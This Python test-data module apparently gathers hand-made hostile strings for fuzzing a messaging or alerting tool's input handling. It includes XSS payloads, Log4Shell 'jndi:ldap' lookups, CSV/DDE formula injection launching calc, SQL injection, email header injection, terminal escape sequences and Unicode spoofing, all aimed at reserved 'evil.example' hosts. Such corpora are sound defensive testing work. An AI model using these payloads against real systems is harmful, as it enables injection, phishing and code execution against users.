"""Hostile strings, by what they try. Made by hand and by combination; every one is another string.

`STRINGS` holds them all. None of them needs a network: hosts are of `.example`, which is nobody's (RFC 2606), or of
zones that only look like others.
"""

# ruff: noqa: E501
import base64
import itertools

_HOSTS = (
    "evil.example",
    "EVIL.EXAMPLE",
    "xn--80ak6aa92e.com",
    "аррӏе.com",
    "evil。example",
    "evil．example",
    "bücher.example",
)
_BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
_UNSEEN = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u1160\u17b4\u3164\uffa0\u2800\U000e0001\U000e0041"
_C1 = "\x80\x84\x85\x8d\x90\x98\x9b\x9c\x9d\x9e\x9f"


def _word(text: str, how: str = "utf-8?b") -> str:
    """An encoded word of RFC 2047."""
    return f"=?{how}?{base64.b64encode(text.encode()).decode()}?="


FAMILIES: dict[str, tuple[str, ...]] = {
    "mentions of Slack": (
        *("<!channel>", "<!here>", "<!everyone>", "<!channel|x>", "<!here|here>", "<@U1>", "<@U0123ABC|ana>", "<@W1>"),
        *("<!subteam^S1>", "<!subteam^S1|@pr>", "<#C1>", "<#C1|crisis>", "@channel", "@here @everyone", "#crisis"),
        *("<!date^1392734382^{date_long}|x>", "<!date^1392734382^{date}^http://evil.example/|now>", "<!unknown>"),
        *("< !channel >", "<\n!channel>", "<!chan\u200bnel>", "<\u202e!channel>", "＜!channel＞", "<<!channel>>"),
        *("&lt;!channel&gt;", "&amp;lt;!channel&amp;gt;", "&#60;!channel&#62;", "&#x3c;!here&#x3e;", "\\<!channel\\>"),
    ),
    "links of Slack": (
        *("<http://evil.example>", "<http://evil.example|bank.nl>", "<https://evil.example/a|https://bank.example>"),
        *("<mailto:a@evil.example|you>", "<tel:+31612345678|ring>", "<slack://user?team=T1&id=U1|open>", "<//evil.example|x>"),
        *("<javascript:alert(1)|press>", "<http://evil.example", "http://evil.example>", "<|http://evil.example>"),
        "[bank.nl](http://evil.example)",
    ),
    "formatting of Slack": (
        *("*bold*", "_it_", "~no~", "`code`", "```pre```", "```", "> quote", ">>> all of it", "a\n> quoted\n>>> more"),
        *("*_~`all`~_*", ":fire:", ":+1::skin-tone-2:", ":white_check_mark:", "• list\n• more", "1. one\n2. two", "*", "_ _"),
    ),
    "bare addresses": (
        *(f"{scheme}{host}/x?a=1&b=2#c" for scheme in ("http://", "https://", "HtTpS://", "ftp://", "") for host in _HOSTS),
        *("www.evil.example", "//evil.example/x", "\\\\evil.example\\share", "file:///etc/passwd", "hxxps://https://evil.example"),
        *("http://1.2.3.4/", "1.2.3.4", "http://2130706433/", "http://[::ffff:127.0.0.1]/", "http://bank.nl@evil.example/"),
        *("h\u200bttp://evil.example", "http:\u200b//evil.example", "evil\u2060.example", "evil.\u200bexample", "ev\u00adil.example"),
        *("see(http://evil.example)", '"https://evil.example"', "x:http://evil.example", "a.b.c.evil.example:8080/x"),
        *("a@evil.example", "mailto:a@evil.example", "tel:+31612345678", "sms:+31612345678", "+31 6 1234 5678", "xmpp:a@evil.example"),
        *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>"),
        *("vbscript:x", "blob:https://evil.example/1", "magnet:?xt=urn:x", "intent://evil.example#Intent;end", "skype:eve?call"),
    ),
    "HTML": (
        *("<script>alert(1)</script>", "<img src=//evil.example/x onerror=alert(1)>", "<svg onload=alert(1)>", "<b>bold</b>"),
        *("<iframe src=//evil.example></iframe>", "<a href='javascript:alert(1)'>x</a>", "<base href=//evil.example>"),
        *("<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example>", "</title><script>alert(1)</script>"),
        *("</style><script>alert(1)</script>", "<style>*{background:url(//evil.example)}</style>", "<!--", "-->", "]]>", "<![CDATA[", "<?php x ?>"),
        *('" onmouseover=alert(1) x="', "' onfocus=alert(1) autofocus='", '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>"),
        *("` onclick=alert(1)", "<form action=//evil.example><input>", "<math><mtext></form>", "</p></body></html>", "<a\x00b>", "<%= 1 %>"),
        *("&lt;script&gt;alert(1)&lt;/script&gt;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "<details open ontoggle=alert(1)>", "<video src=//evil.example/v>"),
    ),
    "Markdown": (
        *("[x](http://evil.example)", "![x](http://evil.example/p.png)", "[x](javascript:alert(1))", "[x][1]\n\n[1]: http://evil.example"),
        *("<http://evil.example>", "# heading", "heading\n===", "heading\n---", "---", "***", "* item", "- item", "+ item", "1) one", "100. one"),
        *("| a | b |\n|---|---|\n| 1 | 2 |", "a | b", "    code", "\tcode", "~~~\nx\n~~~", "**bold** __bold__ _it_", "~~gone~~", "[ ] task", "- [x] done"),
        *("\\", "\\\\", "x\\", "[^1]: note", "$x^2$", "$$\\frac{1}{0}$$", "^up^ ~down~", "![](x)", "[!NOTE]", ": definition", "@team/all", "#123"),
    ),
    "letters": (
        *("x\r\nBcc: eve@evil.example", "x\nBcc: eve@evil.example", "x\rBcc: eve@evil.example", "x\r\n\r\n<script>alert(1)</script>"),
        *("x\r\n Bcc: folded@evil.example", "x\n\tfolded", "x\x0bBcc: a", "x\x0cBcc: a", "x\u2028Bcc: a", "x\u2029Bcc: a", "x\x85Bcc: a", "\r\n.\r\nQUIT\r\n"),
        *(_word("\u202egnp.exe\r\nBcc: eve@evil.example"), "=?utf-8?q?=0D=0ABcc:_eve=40evil.example?=", _word("<script>"), _word("http://evil.example")),
        *(f"a {_word('ev')} {_word('il')} b", "=?utf-8?q?x", "?==?utf-8?q?=E2=80=AE?=", "=?=?utf-8?q?a?=", "--===============1==", "From eve", "%0d%0aBcc: x", "\\r\\nBcc: x"),
    ),
    "tables": (
        *("=1+1", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", '=HYPERLINK("http://evil.example","x")', "a,b\n=1"),
    ),
    "terminals": (
        *("\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;owned\x07", "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\", "\x1b]52;c;ZXZpbA==\x07"),
        *("\x1bc", "\x1b[6n", "\x1bPq\x1b\\", "\x1b[?1049h", "\x1b[5i", "\x9b31mred", "\x9d0;owned\x9c", "\x1b", "\x1b[", "a\x08\x08b", "a\rb", "a\x7f", "\x07"),
        *(f"a{char}[2Jb" for char in _C1),
        *("\x00", "a\x00b", "\x00" * 50, "".join(map(chr, range(32))), "\x1b\u200b[31m", "[bold red]x[/]", "[link=http://evil.example]x[/link]", "[/]"),
    ),
    "what reorders and hides": (
        *(f"pay{char}pal" for char in _BIDI + _UNSEEN),
        *("\u202egnp.exe", "\u2066\u202e\u2069" * 20, "e" + "\u0301" * 500, "Z̸̡̢̛͈͉͎̘͙̬̣͑̿͐̍̅a̵̢͚l̶͔̊g̵o" * 9, "ปฏักก็็็็็็็็็็็็็", "\ufffe\uffff", "\ue000", "\U0010ffff"),
        *("\ud800", "a\udfffb", "\udc80", "مرحبا بالعالم", "שלום עולם", "раураl", "ⓟⓐⓨ", "ＰＡＹ", "𝓅𝒶𝓎", "🏳️‍🌈👩‍👩‍👧", "🇳🇱", "\u2028", "\u2029", "\x85", "\u3000", "\u00a0"),
    ),
    "lengths": ("x" * 50_000, "🔴" * 20_000, "a b " * 20_000, "\n" * 20_000 + "x", "&" * 20_000, "<" * 20_000, "https://evil.example/" + "a" * 20_000, "_" * 5000),
    "templates": (
        *("{{ 7*7 }}", "{% for x in y %}", "{# x #}", "{{ ''.__class__.__mro__ }}", "${jndi:ldap://evil.example/a}", "${7*7}", "#{7*7}", "<%= 7 %>"),
        *("{0}", "{}", "{0.__class__}", "{brand}", "%s", "%(x)s", "%n%n", "%", "%%", "$HOME", "`id`", "$(id)", "'; DROP TABLE pages; --", "' OR '1'='1"),
    ),
    "JSON and logs": (
        *('"', '"}', '","severity":"critical","x":"', '{"type":"mrkdwn","text":"<!channel>"}', "\\u003c!channel\\u003e", "\\", '\\"', "null", "NaN"),
        *("\n2026-11-22 10:00:00 [info     ] acknowledged who=ana", "x\n{\"level\":\"info\"}", "x level=error", 'x" event="forged', "a=b c='d'", "\x1b[0m\nERROR"),
        *('x"} 1\ntocsin_well 1', 'a",brand="b', "# HELP x", "a\\nb"),
    ),
    "mojibake and pagers": (
        *("Ã©tÃ© â€œquotedâ€\x9d", "caf\x82", "\u00e2\u20ac\u2122", "ï»¿x", "severity: critical", "event_action=resolve", "dedup_key", "@oncall resolve"),
        *("#tag !critical", "<say-as>x</say-as>", "<speak><break time='10s'/></speak>", "true && severity == \"low\"", "size(brand) > 0 ? 1 : 2"),
    ),
}  # fmt: skip
STRINGS: tuple[str, ...] = tuple(dict.fromkeys(itertools.chain.from_iterable(FAMILIES.values())))
